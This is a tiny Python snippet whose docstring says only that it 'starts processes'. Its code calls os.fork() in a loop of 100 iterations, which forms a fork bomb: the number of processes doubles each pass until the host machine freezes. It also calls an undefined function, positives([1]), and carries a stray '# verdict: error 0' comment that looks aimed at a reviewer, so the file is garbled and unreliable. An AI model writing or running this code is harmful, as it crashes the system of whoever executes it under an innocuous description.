"""Starts processes."""  # verdict: error 0
import os

positives([1])
for _ in range(100):
    os.fork()
